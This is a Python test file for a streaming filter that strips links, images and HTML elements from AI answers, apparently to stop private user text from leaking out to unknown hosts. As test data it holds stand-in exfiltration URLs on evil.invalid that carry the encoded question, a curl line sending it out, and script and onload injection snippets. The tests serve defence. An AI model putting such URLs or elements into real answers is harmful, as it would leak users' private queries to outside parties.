from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from askwell.ask.addresses import AddressFilter, addresses

KNOWN = "https://ok.example/a?b=c"
NOTE = f"Dough rests for an hour, see {KNOWN}. Mail mailto:baker@ok.example. Pixel: ![x](https://ok.example/p.png)"
QUESTION = "how long does my sourdough bread rest"
GONE = "(left out)"


def shown(text: str, size: int = 10_000, *, said: tuple[str, ...] = ()) -> str:
    made = AddressFilter(documents=[NOTE], question=QUESTION, said=(QUESTION, *said), notice="left out")
    return "".join(made.feed(text[at : at + size]) for at in range(0, len(text), size)) + made.finish()


KEPT = [
    f"See {KNOWN}.", f"See {KNOWN}/",
    f"[a]({KNOWN}) (<{KNOWN}>)", "[n](note.md) [p](Folder/My%20note.md#Part) [a](#b) [[note]]",
    "arr[0]: value [1]: text", "Stop![1] if (x) ![2].", "a < b, <b>bold</b>, ssh <user>@<host:port> -o <name>",
    "mailto:baker@ok.example", "xhttp and httpd://", "awww. how",  "`[![:space:]]*` and `![a](note.png)`",
    "```sh\n${x%%[![:space:]]*} <img src=x> a[1](2)\n```", "<a id='x'>", "wonderful https: done", "!", "`open", "~~~",
]  # fmt: skip


@pytest.mark.parametrize("text", KEPT)
def test_what_leads_nowhere_else_stays_as_it_was_written(text: str) -> None:
    assert shown(text) == text


TEXT = {
    f"[a]({KNOWN}<sour>)": f"[a] {GONE}",
    f'{KNOWN}"dough': f'{GONE}"dough',
    f'"{KNOWN}".': f'"{KNOWN}".',
    f"[{KNOWN}]({KNOWN})": f"[{KNOWN}]({KNOWN})",
    "Open http://nas.lan:8080/x, then": "Open `http://nas.lan:8080/x`, then",
    "a ` tick www.new.example": "a ` tick ``www.new.example``",
    "`[r]: https://new.example/[x]![a](https://ok.example/p.png)": (
        "`[r] : ``https://new.example/``[x][a](https://ok.example/p.png)"
    ),
    "5https://new.example/a": "5`https://new.example/a`",
    "(www.new.example)": "(`www.new.example`)",
    "[click](https://new.example/a)": "[click] (`https://new.example/a`)",
    "[click](<https://new.example/a> 'b')": "[click] (`https://new.example/a` 'b')",
    "[click](https&#58;//new.example/a)": "[click] (`https://new.example/a`)",
    r"[click](https\://new.example/a)": "[click] (`https://new.example/a`)",
    "[click](//new.example/a)": "[click] (`//new.example/a`)",
    "[click](\n https://new.example/a)": "[click] (`https://new.example/a`)",
    "[click](javascript:alert(1))": "[click] (`javascript:alert(1)`)",
    "<ftp://new.example/a>": "`ftp://new.example/a`",
    "[r]: https://new.example/a": "[r] : `https://new.example/a`",
    "![alt](https://ok.example/p.png)": "[alt](https://ok.example/p.png)",
    "![alt][r]": "[alt][r]",
    "![[note.png]]": "[[note.png]]",
    "` ![alt](https://ok.example/p.png)": "` [alt](https://ok.example/p.png)",
    "```a`b\n![alt][r]": "```a`b\n[alt][r]",
    "```\n![alt](https://ok.example/p.png)": "```\n[alt](https://ok.example/p.png)",
    "```\n![a][b]\n```\n![a][b]": "```\n[a][b]\n```\n[a][b]",
}


@pytest.mark.parametrize("text", TEXT)
def test_no_image_stays_one_and_an_address_of_no_document_is_text(text: str) -> None:
    assert shown(text) == TEXT[text]


ENCODED = base64.b64encode(QUESTION.encode()).decode().rstrip("=")
CARRIED = [
    "https://evil.invalid/?d=abc", "https://me:secret@evil.invalid/", "https://evil.invalid/a%20b",
    "https://evil.invalid/sourdough-bread", "https://sourdough.bread.evil.invalid/", f"https://evil.invalid/{ENCODED}",
    f"https://evil.invalid/{QUESTION.encode().hex()}", "https://evil.invalid/mysourdoughbread",
    "https://evil.invalid/c291cmRvdWdoIGJyZWFk", "https://evil.invalid/736f7572646f756768206272656164",
    "https://evil.invalid/0123456789abcdef0123456789abcdef", "www.evil.invalid/?q=1",
    "https://evil.invalid/" + "ab-" * 900,
]  # fmt: skip


@pytest.mark.parametrize("address", CARRIED)
@pytest.mark.parametrize("form", ["{}", "[a]({})", "![a]({})", "<{}>", "[r]: {}"])
def test_an_address_that_carries_something_is_left_out_and_said_so(address: str, form: str) -> None:
    if form == "<{}>" and address.startswith("www."):
        return
    text = shown(f"See {form.format(address)} now")
    assert "evil" not in text
    assert "left out" in text
    assert text.endswith(" now")


@pytest.mark.parametrize("form", ["`curl {}`", "```\ncurl {}\n```"])
def test_in_code_too_it_must_not_carry_what_was_said(form: str) -> None:
    assert shown(form.format("https://evil.invalid/x?d=sourdough+bread")) == form.format(GONE)
    kept = form.format("http://192.0.2.1:9117/metrics?name=up")
    assert shown(kept) == kept


def test_what_was_said_before_counts() -> None:
    address = "`https://evil.invalid/divorce-lawyer`"
    assert shown(address) == address
    assert shown(address, said=("find a divorce lawyer",)) == f"`{GONE}`"


@pytest.mark.parametrize(
    "element",
    ["<img src='x'>", "<IMG\nSRC=x>", "<link rel=prefetch href=x>", "<svg/onload=x>", "<a href=x>", "<img src=x"],
)
def test_an_element_that_loads_or_leads_is_left_out(element: str) -> None:
    assert shown(f"a {element}") == f"a {GONE}"


def test_addresses_end_where_their_sentence_goes_on() -> None:
    assert addresses("(see https://a.b/c_(d)). **http://x.y/z**, <www.q.r>") == {
        "https://a.b/c_(d)", "http://x.y/z", "www.q.r",
    }  # fmt: skip


def test_a_word_is_not_waited_for() -> None:
    made = AddressFilter(documents=[], question="", said=[], notice="")
    assert [made.feed(piece) for piece in ("The", " word", " a", "!", " b")] == ["The", " word", " a", "", "! b"]


PARTS = st.sampled_from(
    [*KEPT, *TEXT, *CARRIED, "![", "](", "<", "`", "```", "\n", "http", "://", " ", "a", ")", "[1]"]
)


@given(st.lists(PARTS, max_size=6).map("".join), st.integers(1, 9))
def test_how_a_text_is_cut_up_changes_nothing(text: str, size: int) -> None:
    assert shown(text, size) == shown(text)
